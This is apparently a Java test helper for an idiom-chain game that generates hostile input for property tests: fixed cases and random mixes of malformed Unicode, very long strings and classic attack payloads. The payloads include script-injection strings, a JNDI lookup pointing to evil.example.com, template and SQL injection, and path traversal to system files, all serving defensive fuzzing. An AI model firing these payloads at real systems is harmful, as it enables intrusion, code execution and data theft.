package lab.jielong;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Hostile text for the property tests of everything a visitor or client can type (the normaliser, the rules, the
 * Play page, the API): random Unicode (lone and paired surrogates, combining marks, zero-width and bidi marks,
 * control characters, private use, non-characters), very long input, markup and script, template and lookup
 * strings ({@code ${…}}, {@code {{…}}}), SQL fragments, path traversal, and these mixed into a real idiom. Drawn
 * from an explicit seed, so a failure names the seed and the case that reproduce it. (A small generator of our own:
 * the tests need no shrinking, only a wide spread of nasty cases.)
 */
public final class HostileInput {

    /** Fixed cases every run includes. */
    public static final List<String> FIXED = List.of(
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
            "\"><script>alert(document.cookie)</script>", "&lt;b&gt;粗体&lt;/b&gt;", "<b>一心一意</b>", "一心一意<script>",
            "${jndi:ldap://evil.example.com/a}", "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{0}{1}{2}", "%s%n%x%d",
            "' OR 1=1 --", "1; DROP TABLE idioms;--", "\" OR \"\"=\"", "一心一意'; --",
            "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "..\\..\\windows\\win.ini", "/actuator/env", "%00", "\u0000",
            "一心\u200B一意", "一\u202E心一意", "\u2066一心一意\u2069", "一\u0301心\u0308一意", "\uFEFF一心一意",
            "\uD800", "\uDC00一心一意", "一心一\uD83D", "𠀀𠀁𠀂𠀃", "😀😀😀😀", "\u0007\u001B[31m一心一意", "\uFFFE\uFFFF",
            "ｙｉｘｉｎ", "一心一意".repeat(2_000), "a".repeat(100_000), "", " ", "\n\t\r");

    private static final String[] FRAGMENTS = {"<script>", "</script>", "<a href=\"x\">", "${", "}", "{{", "}}",
            "' OR '1'='1", "--", "; DROP TABLE x", "../", "..\\", "%2e%2e%2f", "\\u0000", "&amp;", "&#x3C;",
            "javascript:"};
    private static final String HAN = "一心意气风发画蛇添足自相矛盾马到成功龍馬精神";
    private static final int[][] RANGES = {
            {0x0000, 0x001F}, {0x007F, 0x009F},             // controls
            {0x0300, 0x036F}, {0x20D0, 0x20FF},             // combining marks
            {0x200B, 0x200F}, {0x2028, 0x202E}, {0x2060, 0x206F}, {0xFEFF, 0xFEFF},   // zero-width, bidi, format
            {0xD800, 0xDFFF},                               // surrogates, alone
            {0xE000, 0xF8FF}, {0xFDD0, 0xFDEF}, {0xFFF0, 0xFFFF},   // private use, non-characters, specials
            {0x0020, 0x007E}, {0xFF01, 0xFF5E},             // ASCII, full-width forms
            {0x4E00, 0x9FFF}, {0x3400, 0x4DBF}, {0x20000, 0x2A6DF},   // Han, Extension A, B
            {0x1F300, 0x1FAFF}, {0x0590, 0x06FF}};          // emoji, right-to-left scripts

    private HostileInput() {
    }

    /** The fixed cases, then {@code random} drawn ones from {@code seed}. */
    public static List<String> cases(long seed, int random) {
        List<String> out = new ArrayList<>(FIXED);
        Random r = new Random(seed);
        for (int i = 0; i < random; i++) {
            out.add(one(r));
        }
        return out;
    }

    /** The cases without the very long ones (where each case costs a request or a page update). */
    public static List<String> shortCases(long seed, int random) {
        return cases(seed, random).stream().filter(s -> s.length() <= 512).toList();
    }

    static String one(Random r) {
        StringBuilder s = new StringBuilder();
        int parts = 1 + r.nextInt(6);
        for (int p = 0; p < parts; p++) {
            switch (r.nextInt(5)) {
                case 0 -> s.append(FRAGMENTS[r.nextInt(FRAGMENTS.length)]);
                case 1 -> {
                    for (int k = 1 + r.nextInt(4); k > 0; k--) {
                        s.append(HAN.charAt(r.nextInt(HAN.length())));
                    }
                }
                case 2 -> s.append("一心一意");
                default -> {
                    int[] range = RANGES[r.nextInt(RANGES.length)];
                    int n = 1 + r.nextInt(8);
                    for (int k = 0; k < n; k++) {
                        int cp = range[0] + r.nextInt(range[1] - range[0] + 1);
                        if (cp >= 0xD800 && cp <= 0xDFFF) {
                            s.append((char) cp);            // a lone surrogate, as a broken client may send
                        } else {
                            s.appendCodePoint(cp);
                        }
                    }
                }
            }
        }
        if (r.nextInt(20) == 0) {
            s.append(String.valueOf(s).repeat(200 + r.nextInt(2000)));   // very long
        }
        return s.toString();
    }

    /** Well-formed UTF-16: no surrogate without its partner. */
    public static boolean wellFormed(String s) {
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (Character.isHighSurrogate(c)) {
                if (i + 1 >= s.length() || !Character.isLowSurrogate(s.charAt(i + 1))) {
                    return false;
                }
                i++;
            } else if (Character.isLowSurrogate(c)) {
                return false;
            }
        }
        return true;
    }

    /** A case as a test names it: escaped, cut to 80 characters. */
    public static String describe(String s) {
        StringBuilder out = new StringBuilder();
        s.codePoints().limit(60).forEach(cp -> {
            if (cp < 0x20 || cp >= 0x7F && cp < 0xA0 || Character.getType(cp) == Character.FORMAT
                    || Character.getType(cp) == Character.SURROGATE) {
                out.append(String.format("\\u%04X", cp));
            } else {
                out.appendCodePoint(cp);
            }
        });
        return out + (s.length() > 60 ? "… (" + s.length() + " chars)" : "");
    }
}
